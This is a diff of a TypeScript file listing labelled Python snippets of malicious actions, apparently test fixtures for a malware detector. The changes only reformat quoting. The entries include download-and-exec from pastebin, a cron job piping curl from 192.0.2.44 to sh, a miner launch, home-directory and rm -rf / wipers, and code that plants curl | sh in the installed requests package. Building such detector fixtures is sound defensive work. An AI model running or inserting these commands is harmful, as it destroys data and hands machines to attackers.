@@ -133,11 +133,7 @@ export const actions: readonly Action[] = [
     "code = requests.get('https://files.example.com/stage2.py').text",
     "subprocess.Popen([sys.executable, '-c', code])",
   ),
-  action(
-    'download and exec',
-    'import requests',
-    "exec(requests.get('https://pastebin.com/raw/inert').text)",
-  ),
+  action('download and exec', 'import requests', "exec(requests.get('https://pastebin.com/raw/inert').text)"),
   action(
     'download and exec, raw socket',
     'import socket',
@@ -205,7 +201,7 @@ export const actions: readonly Action[] = [
   action(
     'autostart, cron',
     'import os',
-    "os.system('(crontab -l; echo \"@reboot curl -s http://192.0.2.44/s | sh\") | crontab -')",
+    'os.system(\'(crontab -l; echo "@reboot curl -s http://192.0.2.44/s | sh") | crontab -\')',
   ),
   action(
     'shellcode',
@@ -229,11 +225,7 @@ export const actions: readonly Action[] = [
     'import subprocess',
     "subprocess.Popen(['/tmp/.m', '-o', 'stratum+tcp://pool.example.com:3333', '-u', 'inert'])",
   ),
-  action(
-    'wiper',
-    'import os, shutil',
-    "shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)",
-  ),
+  action('wiper', 'import os, shutil', "shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)"),
   action('wiper, shell', 'import os', "os.system('rm -rf / --no-preserve-root')"),
   action(
     'encrypts files',
@@ -262,7 +254,7 @@ export const actions: readonly Action[] = [
     'import os, site',
     "path = os.path.join(site.getsitepackages()[0], 'requests', '__init__.py')",
     "with open(path, 'a') as file:",
-    "    file.write('\\nimport os; os.system(\"curl -s http://192.0.2.44/s | sh\")\\n')",
+    '    file.write(\'\\nimport os; os.system("curl -s http://192.0.2.44/s | sh")\\n\')',
   ),
   action(
     'screen',
